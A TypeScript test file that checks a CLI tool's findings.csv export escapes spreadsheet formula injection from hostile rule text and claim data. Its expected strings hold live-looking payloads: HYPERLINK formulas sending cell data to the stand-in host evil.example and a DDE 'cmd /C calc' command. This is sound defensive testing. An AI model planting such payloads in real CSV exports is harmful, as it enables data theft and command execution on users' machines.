/**
 * Attack: formulas in findings.csv, from a custom rule's text and from the data alone
 * (test/attacks/cli/README.md). Works on copies in a temporary folder.
 */
import { copyFile, readFile, rm } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { originalCsvText } from '../../core/shared/safe-csv';
import { parseCsv, parseCsvObjects } from '../workers/generator/csv-parse';
import { ROOT, runInProcess, tempDir } from './cli-fixtures';

const ATTACKS = path.join(ROOT, 'test', 'attacks', 'cli');
const FORMULA_START = /^[=+\-@\t\r]/;

let dir: string;

beforeAll(async () => {
  dir = await tempDir('csv-injection');
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('findings.csv from hostile rule text and data', () => {
  it('writes every formula-like cell as text with one apostrophe, amounts as numbers, and loses nothing', async () => {
    const [notebook, setl] = ['formula-injection.claimlens.md', 'formula-setl.csv'].map((f) =>
      path.join(dir, f),
    );
    await copyFile(path.join(ATTACKS, 'formula-injection.claimlens.md'), notebook!);
    await copyFile(path.join(ATTACKS, 'formula-setl.csv'), setl!);
    const out = path.join(dir, 'out');
    const run = await runInProcess(['run', notebook!, '--data', setl!, '--out', out, '--quiet']);
    expect(run.code).toBe(0);

    const bytes = await readFile(path.join(out, 'findings.csv'));
    const text = bytes.toString('utf8');
    const [header, ...rows] = parseCsv(text.slice(1));
    const col = (name: string) => header!.indexOf(name);
    expect(rows).toHaveLength(3);
    for (const row of rows) {
      for (const [i, field] of row.entries()) {
        const isPlainAmount = i === col('vola_amt') && /^-?\d+\.\d+$/.test(field);
        if (!isPlainAmount) expect(field, `${header![i]}: ${field}`).not.toMatch(FORMULA_START);
      }
    }
    // The bytes as written: quoted, one apostrophe, inner quotes doubled.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?r=1"",""规则"")","'@SUM(1+1)",`);
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""详情"")","'-1+1",-1.50,`);
    expect(text).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",0\r\n`);

    // Nothing lost: removing the one apostrophe gives back the data's doctor codes exactly.
    const data = parseCsvObjects(await readFile(setl!, 'utf8'));
    const bySetl = new Map(rows.map((r) => [r[col('setl_id')], r]));
    for (const source of data) {
      const row = bySetl.get(source['setl_id']);
      expect(originalCsvText(row![col('dr_code')]!)).toBe(source['atddr_no']);
      expect(Number(row![col('vola_amt')])).toBe(Number(source['medfee_sumamt']));
    }
    expect(originalCsvText(rows[0]![col('rule_name')]!)).toBe(
      '=HYPERLINK("http://evil.example/?r=1","规则")',
    );
    expect(await readFile(path.join(out, 'audit.csv'))).toEqual(bytes);
  });
});
